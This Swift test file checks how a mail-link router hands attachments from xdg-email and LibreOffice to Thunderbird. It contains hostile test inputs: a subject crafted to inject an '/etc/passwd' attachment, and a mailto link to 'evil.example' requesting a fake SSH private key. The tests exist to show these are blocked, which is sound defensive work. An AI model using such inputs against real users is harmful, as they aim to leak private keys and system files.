import Foundation
import Testing
import TestSupport

/// Files a local program attaches, the ways they really come: Debian's real
/// `/usr/bin/xdg-email --attach` (xdg-utils 1.1.3), which runs `xdg-email-hook.sh` first
/// in PATH, and LibreOffice's real senddoc, which runs xdg-email; against a web page's
/// `attach=`, which never attaches a file, whichever way it comes.
/// Judged by what a recording Thunderbird received on its command line, read the way
/// Thunderbird reads it (Resources/thunderbird_compose.py).
@Suite struct LocalProgramTests {
    /// mailto-route registered over a recording Thunderbird (so a handoff goes to it, the
    /// default `register` replaced), xdg-email's hook in PATH, no account, no display,
    /// and two files, one with a comma, quotes and a space in its name.
    func sandbox() throws -> (Sandbox, [String]) {
        let sandbox = try Sandbox()
        try sandbox.installHandler("thunderbird.desktop", name: "Thunderbird", program: "thunderbird")
        try sandbox.setDefaultMailHandler("thunderbird.desktop")
        let register = try route(["register"], in: sandbox)
        precondition(register.status == 0, "register failed: \(register)")
        try sandbox.installXDGEmailHook()
        let first = try sandbox.write("report", to: "files/report.pdf").path
        let second = try sandbox.write("notes", to: "files/my notes, 'v2'.txt").path
        return (sandbox, [first, second])
    }

    /// Rule 8 and the issue's hostile subject: both files reach Thunderbird's `-compose`,
    /// and a subject written to add an attachment adds none.
    @Test func xdgEmailAttachReachesTheMailProgramThroughTheHook() throws {
        let (sandbox, files) = try sandbox()
        let hostile = "x',attachment='file:///etc/passwd"
        let result = try xdgEmail(
            ["--subject", hostile, "--attach", files[0], "--attach", files[1], "joe@example.org"], in: sandbox)
        #expect(result.status == 0, "\(result)")
        #expect(result.stdout.hasPrefix("handed off to Thunderbird (thunderbird.desktop)"), "\(result)")
        #expect(!result.stderr.contains("not taken from the URL"), "\(result)")
        let argv = try #require(sandbox.recordedArgv("thunderbird"))
        #expect(argv.first == "-compose", "\(argv)")
        let compose = try ThunderbirdCompose(reading: argv.last ?? "")
        #expect(compose.fields["to"] == "joe@example.org")
        #expect(compose.fields["subject"] == hostile)
        #expect(compose.attachments == files)
        #expect(compose.attachmentsBefore900117 == files)
    }

    /// `--json` says the same: handed off, the files carried (no warning about them).
    @Test func hookReportsAsJSONWhenAsked() throws {
        let (sandbox, files) = try sandbox()
        let url = "mailto:joe@example.org?attach=" + (files[0].addingPercentEncoding(withAllowedCharacters: .alphanumerics) ?? "")
        let result = try routeWithoutTerminal(["open", url, "--local", "--json"], in: sandbox)
        #expect(result.status == 0, "\(result)")
        let report = try #require(try JSONSerialization.jsonObject(with: Data(result.stdout.utf8)) as? [String: Any])
        #expect(report["path"] as? String == "handoff" && report["result"] as? String == "handedOff", "\(report)")
        #expect((report["warnings"] as? [String])?.isEmpty == true, "\(report)")
    }

    /// xdg-email runs its hook whatever program the user chose: when that is not
    /// mailto-route, the files go to that program, also with an account that would send a
    /// link at once (`policy=direct`), as xdg-email would have sent them there.
    @Test func hookHandsOffToTheUsersOwnMailProgram() throws {
        let sandbox = try Sandbox()
        try sandbox.installHandler("thunderbird.desktop", name: "Thunderbird", program: "thunderbird")
        try sandbox.setDefaultMailHandler("thunderbird.desktop")
        try sandbox.installXDGEmailHook()
        let (port, socket) = try unlistenedPort()
        defer { close(socket) }
        try writeAccount(sandbox, port: port, security: "none")
        let config = sandbox.configHome.appendingPathComponent("mailto-route/config")
        try (String(contentsOf: config, encoding: .utf8) + "[route]\npolicy=direct\n").write(to: config, atomically: false, encoding: .utf8)
        let file = try sandbox.write("report", to: "files/report.pdf").path
        let result = try xdgEmail(["--attach", file, "joe@example.org"], in: sandbox)
        #expect(result.status == 0, "\(result)")
        let argv = try #require(sandbox.recordedArgv("thunderbird"))
        #expect(try ThunderbirdCompose(reading: argv.last ?? "").attachments == [file])
        #expect(result.stdout.hasPrefix("handed off to Thunderbird (thunderbird.desktop)"), "\(result)")
    }

    /// LibreOffice's "Send document as e-mail", the real thing: Debian's own senddoc
    /// (libreoffice-core 7.4, /usr/lib/libreoffice/program/senddoc) as LibreOffice runs it,
    /// `--mailclient sensible-lomua`, which runs `xdg-email "mailto:…&attach=file://…"` in
    /// the background and exits. Started in LibreOffice's app scope, as the desktop starts
    /// LibreOffice, the document arrives, named as it is (its uri-encode keeps a space and
    /// escapes a `%` once).
    @Test func libreOfficeSendDocumentReachesTheMailProgram() throws {
        let (sandbox, _) = try sandbox()
        let document = try sandbox.write("odt", to: "lu1234.tmp/Budget 100%, final.odt").path
        let scope = try AppScope(unit: #"app-gnome-libreoffice\x2dwriter-\#(getpid()).scope"#)
        let result = try senddoc(["--to", "ann@example.org", "--subject", "Budget 100%, final.odt", "--attach", document],
                                 in: sandbox, scope: scope)
        #expect(result.status == 0, "\(result)")
        let argv = try #require(sandbox.recordedArgv("thunderbird"))
        let compose = try ThunderbirdCompose(reading: argv.last ?? "")
        #expect(compose.attachments == [document], "\(argv)")
        #expect(compose.fields["subject"] == "Budget 100%, final.odt")
        #expect(compose.fields["to"] == "ann@example.org")
    }

    /// The same senddoc started outside LibreOffice's scope (by a test, a script, or
    /// anything that leaves no trace once it has exited): nothing proves who asked, so the
    /// file stays behind, and the report names it (fail closed).
    @Test func senddocWithNoLibreOfficeBehindItAttachesNothing() throws {
        let (sandbox, _) = try sandbox()
        let document = try sandbox.write("odt", to: "lu1234.tmp/report.odt").path
        let result = try senddoc(["--to", "ann@example.org", "--attach", document], in: sandbox, scope: nil)
        #expect(result.status == 0, "\(result)")
        let argv = try #require(sandbox.recordedArgv("thunderbird"))
        #expect(!argv.joined().contains("report.odt"), "\(argv)")
        #expect(result.stderr.contains("warning: not attached: \(document) (the link asked for it"), "\(result)")
    }

    /// Runs Debian's senddoc (in `scope` when given) with the sandbox's PATH, where
    /// xdg-email finds the hook; waits for the background xdg-email too (its output).
    func senddoc(_ arguments: [String], in sandbox: Sandbox, scope: AppScope?) throws -> RunResult {
        let command = ["/usr/lib/libreoffice/program/senddoc", "--mailclient", "sensible-lomua"] + arguments
        return try run("/usr/bin/setsid", ["-w"] + (scope?.wrap(command) ?? command), environment: sandbox.environment(), timeout: 30)
    }

    /// A file: URI escaped as a URI should be, inside the URL (escaped twice), is read
    /// as that URI says.
    @Test func properlyEscapedFileURIIsAttached() throws {
        let (sandbox, files) = try sandbox()
        let pathCharacters = CharacterSet.urlPathAllowed.subtracting(CharacterSet(charactersIn: ",'"))
        let uri = "file://" + (files[1].addingPercentEncoding(withAllowedCharacters: pathCharacters) ?? "")
        let url = "mailto:joe@example.org?attachment=" + (uri.addingPercentEncoding(withAllowedCharacters: .alphanumerics) ?? "")
        let result = try routeWithoutTerminal(["open", "--local", url], in: sandbox)
        #expect(result.status == 0, "\(result)")
        let compose = try ThunderbirdCompose(reading: try #require(sandbox.recordedArgv("thunderbird")).last ?? "")
        #expect(compose.attachments == [files[1]])
    }

    /// Rule 8 on every way a link reaches mailto-route: a web page's `attach=` naming a
    /// secret is named in the report and the log, and the mail program gets no file:
    /// through GIO's launch of the desktop file (`open %u`) by `gio open` and `xdg-open`;
    /// `xdg-email URL` with its hook (run by another program than LibreOffice) and without
    /// it (xdg-email then launches the desktop file itself); and `open` run directly.
    @Test(arguments: ["gio open", "xdg-open", "xdg-email with the hook", "xdg-email without the hook", "open"])
    func webPageAttachAttachesNothingOnEveryPath(path: String) throws {
        let (sandbox, _) = try sandbox()
        let secret = try sandbox.write("-----BEGIN OPENSSH PRIVATE KEY-----\n", to: "home/.ssh/id_rsa").path
        let url = "mailto:support@evil.example?subject=Support&attach=file://\(secret)"
        if path == "xdg-email without the hook" {
            try FileManager.default.removeItem(at: sandbox.binDirectory.appendingPathComponent("xdg-email-hook.sh"))
        }
        // xdg-utils look for a desktop file only on a desktop (DISPLAY set); there is no
        // account, so nothing opens a window on it.
        let desktop = ["DISPLAY": ":99"]
        let result: RunResult
        switch path {
        case "gio open": result = try run("/usr/bin/gio", ["open", url], environment: sandbox.environment(), timeout: 30)
        case "xdg-open": result = try run("/usr/bin/xdg-open", [url], environment: sandbox.environment(desktop), timeout: 30)
        case "open": result = try routeWithoutTerminal(["open", url], in: sandbox)
        default: result = try xdgEmail([url], in: sandbox, desktop)
        }
        #expect(result.status == 0, "\(result)")
        let argv = try #require(sandbox.recordedArgv("thunderbird", timeout: 20), "\(result)")
        #expect(argv == ["mailto:support@evil.example?subject=Support"], "\(argv)")
        // The outcome log says what was not attached, whoever printed the report.
        let log = try #require(try waitForLogLine(in: sandbox))
        #expect(log.contains("not attached: \(secret)"), "\(log)")
    }

    /// The last line of the outcome log, once there is one (a launch through GIO returns
    /// before mailto-route has run).
    func waitForLogLine(in sandbox: Sandbox) throws -> String? {
        let log = sandbox.stateHome.appendingPathComponent("mailto-route/outcomes.log")
        var text = ""
        try waitUntil("the outcome log has a line") {
            text = sandbox.contents(log) ?? ""
            return text.hasSuffix("\n")
        }
        return text.split(separator: "\n").last.map(String.init)
    }

    /// Rule 2: a file the local program named that cannot be attached is an error that
    /// names it (exit 65), never a message sent without it; nothing is handed off.
    @Test(arguments: ["missing.pdf", "folder"])
    func unattachableLocalFileIsAnError(name: String) throws {
        let (sandbox, _) = try sandbox()
        let folder = sandbox.root.appendingPathComponent("files/folder")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        let path = sandbox.root.appendingPathComponent("files/\(name)").path
        let result = try routeWithoutTerminal(["open", "--local", "mailto:joe@example.org?attach=\(path)"], in: sandbox)
        #expect(result.status == 65, "\(result)")
        #expect(result.stderr.contains("cannot attach \(path): "), "\(result)")
        #expect(sandbox.neverLaunched("thunderbird"))
        #expect(sandbox.drafts.isEmpty)
    }

    /// A `file:` URI of another machine is no local file.
    @Test func fileURIOfAnotherHostIsAnError() throws {
        let (sandbox, _) = try sandbox()
        let result = try routeWithoutTerminal(
            ["open", "--local", "--json", "mailto:joe@example.org?attach=file%3A%2F%2Fexample.org%2Fetc%2Fpasswd"], in: sandbox)
        #expect(result.status == 65, "\(result)")
        #expect(result.stdout.contains("\"kind\": \"input\""), "\(result)")
        #expect(sandbox.neverLaunched("thunderbird"))
    }
    // MARK: - A file name that is not UTF-8

    /// `café menu.txt` named in Latin-1 (`caf\xE9 menu.txt`), as an old archive or a
    /// Windows share leaves names: made from its bytes (a Swift String cannot hold them).
    func latin1File(in sandbox: Sandbox, contents: String) throws -> [UInt8] {
        let path = Array(sandbox.root.appendingPathComponent("files").path.utf8) + Array("/caf".utf8) + [0xE9]
            + Array(" menu.txt".utf8)
        let made = try run("/usr/bin/python3", ["-c", """
            import os, sys
            path = bytes.fromhex(sys.argv[1])
            os.makedirs(os.path.dirname(path), exist_ok=True)
            open(path, "w").write(sys.argv[2])
            """, hex(path), contents])
        precondition(made.status == 0, "cannot make the file: \(made)")
        return path
    }

    /// Debian's real xdg-email with `words` given as bytes, as a file manager's "Send to"
    /// runs it with the name it has (exec'd from Python: the word is not a String).
    func xdgEmailWithBytes(_ words: [[UInt8]], in sandbox: Sandbox) throws -> RunResult {
        let exec = "import os, sys; os.execv('/usr/bin/xdg-email', [b'xdg-email'] + [bytes.fromhex(w) for w in sys.argv[1:]])"
        return try run("/usr/bin/setsid", ["-w", "/usr/bin/python3", "-c", exec] + words.map(hex),
                       environment: sandbox.environment(), timeout: 30)
    }

    func hex(_ bytes: [UInt8]) -> String { bytes.map { String(format: "%02x", $0) }.joined() }

    /// The file at `path` (bytes), links resolved (`realpath(3)`).
    func resolved(_ path: [UInt8]) -> [UInt8]? {
        guard let real = (path + [0]).withUnsafeBufferPointer({ buffer in
            buffer.withMemoryRebound(to: CChar.self) { realpath($0.baseAddress, nil) }
        }) else { return nil }
        defer { free(real) }
        return Array(UnsafeBufferPointer(start: UnsafeRawPointer(real).assumingMemoryBound(to: UInt8.self), count: strlen(real)))
    }

    /// A name that is not UTF-8, handed over by `xdg-email --attach`: attached, the mail
    /// program gets that very file. By default xdg-email's `iconv` cuts the name at its
    /// first byte that is not UTF-8 in the URL it builds (`attach=…/caf`), so the file is
    /// known by xdg-email's own argument list; with `--utf8` the URL carries the bytes
    /// (`%E9`).
    @Test(arguments: [false, true])
    func xdgEmailAttachOfANameThatIsNotUTF8ReachesTheMailProgram(utf8Option: Bool) throws {
        let (sandbox, _) = try sandbox()
        let file = try latin1File(in: sandbox, contents: "menu")
        let result = try xdgEmailWithBytes((utf8Option ? [Array("--utf8".utf8)] : [])
            + [Array("--attach".utf8), file, Array("joe@example.org".utf8)], in: sandbox)
        #expect(result.status == 0, "\(result)")
        #expect(result.stdout.hasPrefix("handed off to Thunderbird (thunderbird.desktop)"), "\(result)")
        #expect(!result.stderr.contains("not attached"), "\(result)")
        let compose = try ThunderbirdCompose(reading: try #require(sandbox.recordedArgv("thunderbird")).last ?? "")
        #expect(compose.attachedPathBytes.count == 1, "\(compose.attachments)")
        #expect(compose.attachedPathBytes.first.flatMap(resolved) == resolved(file), "\(compose.attachments)")
        #expect(sandbox.drafts.isEmpty)
    }

    /// The same file sent directly (`policy=direct`): it arrives at the server, its name
    /// shown as GLib shows such a name (the byte that is not UTF-8 as U+FFFD).
    @Test func nameThatIsNotUTF8ArrivesAtTheServer() throws {
        let (sandbox, _) = try sandbox()
        let server = try SMTPTestServer(.plain)
        let config = try writeAccount(sandbox, port: server.port, security: "none")
        try (String(contentsOf: config, encoding: .utf8) + "[route]\npolicy=direct\n").write(to: config, atomically: false, encoding: .utf8)
        let file = try latin1File(in: sandbox, contents: "soup of the day\n")
        let result = try xdgEmailWithBytes([Array("--attach".utf8), file, Array("joe@example.org".utf8)], in: sandbox)
        #expect(result.status == 0, "\(result)")
        #expect(sandbox.neverLaunched("thunderbird"))
        let message = try #require(server.messages.first, "\(result)")
        let parts = try #require(try pythonView(of: message)["parts"] as? [[String: Any]])
        let attached = try #require(parts.first { $0["disposition"] as? String == "attachment" }, "\(parts)")
        #expect(attached["filename"] as? String == "caf\u{FFFD} menu.txt", "\(attached)")
        #expect(attached["sha256"] as? String == sha256(Data("soup of the day\n".utf8)), "\(attached)")
    }
}
